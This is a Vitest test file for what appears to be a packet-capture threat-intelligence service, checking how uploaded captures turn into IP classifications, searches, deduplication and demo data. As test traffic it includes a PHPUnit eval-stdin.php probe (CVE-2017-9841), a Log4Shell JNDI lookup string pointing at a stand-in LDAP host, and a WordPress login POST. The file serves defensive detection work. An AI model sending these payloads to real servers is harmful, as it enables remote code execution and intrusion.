import { request } from 'node:http'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Exchange } from '#demo/exchange.ts'
import { call, captureOf, waitUntilIdle, upload, webVisit, eventually } from '../product/captures.ts'
import { pcap, type TimedFrame } from '#packet/build/pcap.ts'
import { connection } from '#packet/testing/exchange.ts'
import { type Inside, openInside } from '../product/inside.ts'

let product: Inside
beforeAll(async () => {
  product = await openInside()
})
afterAll(async () => {
  await product.close()
})

const now = Date.now()

describe('a capture becomes an answer', () => {
  test('by address, port, path, user agent and tag', async () => {
    const source = '198.18.7.7'
    const bytes = captureOf([
      webVisit(
        source,
        {
          uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
          method: 'POST',
          body: '<?php',
          userAgent: 'probe/7',
        },
        now - 2000,
      ),
    ])
    expect((await upload(product, bytes)).body).toMatchObject({ sessions: 1, duplicate: false, refused: [] })
    const { body } = await eventually(
      () => call(product, `/v3/ip/${source}`),
      ({ status }) => status === 200,
    )
    expect(body).toMatchObject({
      ip: source,
      internet_scanner_intelligence: {
        found: true,
        classification: 'malicious',
        cves: ['CVE-2017-9841'],
        raw_data: { scan: [{ port: 80, protocol: 'tcp' }] },
      },
    })
    for (const query of [
      source,
      'port:80',
      'raw_data.http.path:"/vendor/phpunit/*"',
      'raw_data.web.useragents:probe/7',
      'cve:CVE-2017-9841',
      'classification: malicious',
    ]) {
      // The record may be there a moment before the index of searches is.
      await eventually(
        () => call(product, `/v3/gnql?size=10&query=${encodeURIComponent(query)}`),
        ({ body }) => (body.data as { ip: string }[]).some(({ ip }) => ip === source),
      )
    }
  })

  test('once, however often it is delivered', async () => {
    const bytes = captureOf([webVisit('198.18.7.8', { uri: '/once' }, now - 3000)])
    const receipts = await Promise.all([1, 2, 3].map(() => upload(product, bytes)))
    expect(receipts.filter(({ body }) => body.duplicate === false)).toHaveLength(1)
    await waitUntilIdle(product)
    const { body } = await call(product, '/v3/ip/198.18.7.8')
    expect(body).toMatchObject({ internet_scanner_intelligence: { metadata: { sensor_hits: 1 } } })
  })

  test('says what it was taken at, and changing that later derives its days anew', async () => {
    const login = (source: string) =>
      captureOf([webVisit(source, { uri: '/wp-login.php', method: 'POST', body: 'log=a&pwd=b' }, now - 4000)])
    const classified = async (ip: string, as: string): Promise<void> => {
      await eventually(
        () => call(product, `/v3/ip/${ip}`),
        ({ body }) =>
          (body.internet_scanner_intelligence as { classification?: string } | undefined)?.classification ===
          as,
      )
    }
    const unsaid = await upload(product, login('198.18.7.21'))
    expect(unsaid.body).toMatchObject({ kind: 'sensor', kind_note: expect.stringContaining('sensor') })
    const said = await upload(product, login('198.18.7.22'), 'kind=network')
    expect(said.body).toMatchObject({ kind: 'network' })
    expect(said.body).not.toHaveProperty('kind_note')
    expect((await upload(product, login('198.18.7.23'), 'kind=office')).status).toBe(400)
    await classified('198.18.7.21', 'suspicious')
    await classified('198.18.7.22', 'unknown')
    const change = (kind: string, id = said.body.id as string) =>
      call(product, `/api/captures/${id}`, {
        method: 'PATCH',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ kind }),
      })
    const waits = { kind: 'sensor', status: 'queued', last_error: '' }
    expect(await change('sensor')).toMatchObject({ status: 202, body: { id: said.body.id, change: waits } })
    await classified('198.18.7.22', 'suspicious')
    expect((await change('network', unsaid.body.id as string)).status).toBe(202)
    await eventually(
      () => call(product, '/api/captures'),
      ({ body: { items } }) => (items as { change: unknown }[]).every(({ change }) => change === null),
    )
    expect(await change('sensor')).toMatchObject({ status: 200, body: { id: said.body.id, kind: 'sensor' } })
    // Sent again, the answer names the kind that stands now, and a wish for another is not dropped in silence.
    const again = await upload(product, login('198.18.7.21'), 'kind=sensor')
    expect(again.body).toMatchObject({
      id: unsaid.body.id,
      duplicate: true,
      kind: 'network',
      kind_note: expect.stringContaining('PATCH'),
    })
    const same = await upload(product, login('198.18.7.21'), 'kind=network')
    expect(same.body).toMatchObject({ duplicate: true, kind: 'network' })
    expect(same.body).not.toHaveProperty('kind_note')
    await classified('198.18.7.21', 'unknown')
    const { body } = await call(product, '/api/captures')
    expect(body.items).toMatchObject(
      expect.arrayContaining([expect.objectContaining({ id: unsaid.body.id, kind: 'network' })]),
    )
    expect((await change('sensor', 'none')).status).toBe(404)
    expect((await change('office')).status).toBe(400)
  })

  test('that accuses nobody by what others sent, nor by what was not captured', async () => {
    const lookup = 'GET /?x=${jndi:ldap://198.18.7.40/a} HTTP/1.1\r\nHost: h\r\n\r\n'
    const page = `HTTP/1.1 404 Not Found\r\nContent-Length: ${lookup.length + 50}\r\n\r\n${' '.repeat(50)}${lookup}`
    const quoted = {
      source: '198.18.7.40',
      destination: '198.18.7.41',
      destinationPort: 3000,
      segment: 90,
      at: now - 5000,
    }
    const late = connection(lookup, page, quoted).slice(5)
    const blind = connection(lookup, '', { source: '198.18.7.42', at: now - 5000 }).slice(3, 4)
    const visits = (source: string, packets?: number): TimedFrame[] =>
      Array.from({ length: 30 }, (_, index) =>
        connection('GET / HTTP/1.1\r\n\r\n', 'HTTP/1.1 204 No\r\n\r\n', {
          source,
          destination: `203.0.113.${index + 1}`,
          at: now - 5000 + index,
        }).slice(0, packets),
      ).flat()
    const attacker = connection(lookup, page, {
      ...quoted,
      source: '198.18.7.44',
      destination: '203.0.113.9',
    })
    await upload(product, pcap([...late, ...blind, ...attacker]))
    const headers = pcap([...visits('198.18.7.43'), ...visits('198.18.7.45', 1)], { snapLength: 54 })
    await upload(product, headers, 'kind=network')
    const classification = async (ip: string): Promise<unknown> =>
      (
        (await call(product, `/v3/ip/${ip}`)).body.internet_scanner_intelligence as
          | { classification?: string }
          | undefined
      )?.classification
    // Who attacks and who sweeps are told, so the others of the same captures were looked at, too.
    const told = { '198.18.7.44': 'malicious', '198.18.7.45': 'suspicious' }
    for (const [ip, as] of Object.entries(told))
      await eventually(
        () => classification(ip),
        (found) => found === as,
      )
    for (const ip of ['198.18.7.40', '198.18.7.41', '198.18.7.42', '198.18.7.43'])
      expect([ip, String(await classification(ip))]).toEqual([
        ip,
        expect.not.stringMatching(/malicious|suspicious/),
      ])
  })

  test('whose kind is changed is judged anew by rules over time, too, with one change in each direction', async () => {
    const source = '198.18.7.24'
    const probes = Array.from({ length: 30 }, (_, index): Exchange => ({
      at: now - 50_000 + index * 1000,
      source,
      sourcePort: 40_000 + index,
      destination: `203.0.113.${index + 1}`,
      destinationPort: 7000,
      ttl: 51,
      play: { kind: 'udp', turns: [{ from: 'source', bytes: new TextEncoder().encode('anybody?') }] },
    }))
    const seenAs = (classification: string, isScan: boolean) =>
      eventually(
        async () => (await call(product, `/v3/ip/${source}`)).body.internet_scanner_intelligence,
        (found) => {
          const { classification: as, tags: carried } = (found ?? {}) as {
            classification?: string
            tags?: { slug: string }[]
          }
          return as === classification && carried?.some(({ slug }) => slug === 'horizontal-scan') === isScan
        },
      )
    const { body } = await upload(product, captureOf(probes))
    await seenAs('suspicious', true)
    for (const [kind, classification] of [
      ['network', 'unknown'],
      ['sensor', 'suspicious'],
    ] as const) {
      await call(product, `/api/captures/${body.id}`, {
        method: 'PATCH',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ kind }),
      })
      await seenAs(classification, kind === 'sensor')
    }
  })

  test('moved so that its last packet is now, where the sender asks for that', async () => {
    const old = Date.parse('2019-05-05T00:00:00Z')
    const bytes = captureOf([webVisit('198.18.7.9', { uri: '/old' }, old)])
    expect((await upload(product, bytes)).body).toMatchObject({
      sessions: 0,
      refused: [{ reason: 'older-than-retention', count: 1 }],
    })
    const { body } = await upload(product, bytes, 'shift_to=now')
    expect(body).toMatchObject({ sessions: 1, refused: [] })
    expect(body.shift_ms).toBeGreaterThan(now - old - 60_000)
    await eventually(
      () => call(product, '/v3/ip/198.18.7.9'),
      ({ status }) => status === 200,
    )
  })
})

describe('demo captures', () => {
  const visit = captureOf([webVisit('198.18.9.9', { uri: '/demo' }, now - 3000)])
  const part = (name: string) =>
    call(product, `/api/demo/captures/${name}?sensor=demo-1&part=1&parts=2`, {
      method: 'PUT',
      body: new Uint8Array(visit),
    })

  test('of a load that was removed are refused, so that none stays behind unmarked', async () => {
    expect(await part('before')).toMatchObject({ status: 409 })
    await call(product, '/api/demo', { method: 'POST' })
    expect(await part('during')).toMatchObject({ body: { sessions: 1 } })
    const lookUp = () => call(product, '/v3/ip/198.18.9.9')
    await eventually(lookUp, ({ status }) => status === 200)
    await call(product, '/api/demo', { method: 'DELETE' })
    expect(await lookUp()).toMatchObject({ status: 404 })
    expect(await part('after')).toMatchObject({ status: 409 })
  })

  test('are another batch than the same content taken for live', async () => {
    expect((await upload(product, visit, 'origin=demo')).body).toMatchObject({ duplicate: false })
    expect((await upload(product, visit)).body).toMatchObject({ duplicate: false })
    await call(product, '/api/demo', { method: 'DELETE' })
  })
})

describe('what is no capture', () => {
  test('is refused with a reason, and the request id to find it by', async () => {
    const refused = await upload(product, new TextEncoder().encode('GET / HTTP/1.1\r\n\r\n'.repeat(20)))
    expect(refused.status).toBe(422)
    expect(refused.body).toMatchObject({ code: 'unreadable-capture', status: 422 })
    expect(refused.body.request_id).toBe(refused.headers.get('x-request-id'))
    expect((await upload(product, new Uint8Array())).status).toBe(422)
  })

  test('without a key nothing is taken, with a wrong one neither', async () => {
    const bytes = captureOf([webVisit('198.18.7.10', { uri: '/' }, now - 1000)])
    expect(
      (
        await call(product, '/api/ingest/captures', {
          method: 'POST',
          body: new Uint8Array(bytes),
          key: null,
        })
      ).status,
    ).toBe(401)
    expect((await upload(product, bytes, '', 'nf_wrong')).status).toBe(401)
  })

  test('an upload cut off midway leaves nothing', async () => {
    const bytes = captureOf([
      webVisit('198.18.7.11', { uri: '/cut' }, now - 1000),
      webVisit('198.18.7.11', { uri: '/cut2' }, now - 500),
    ])
    await new Promise<void>((done) => {
      const cut = request(new URL('/api/ingest/captures', product.url), {
        method: 'POST',
        headers: { key: product.key, 'content-length': bytes.length },
      })
      cut.on('error', () => done())
      cut.write(bytes.subarray(0, bytes.length - 40), () => setTimeout(() => cut.destroy(), 100))
      cut.on('close', () => done())
    })
    await waitUntilIdle(product)
    expect((await call(product, '/v3/ip/198.18.7.11')).status).toBe(404)
    const whole = await upload(product, bytes)
    expect(whole.body).toMatchObject({ sessions: 2, duplicate: false })
  })
})
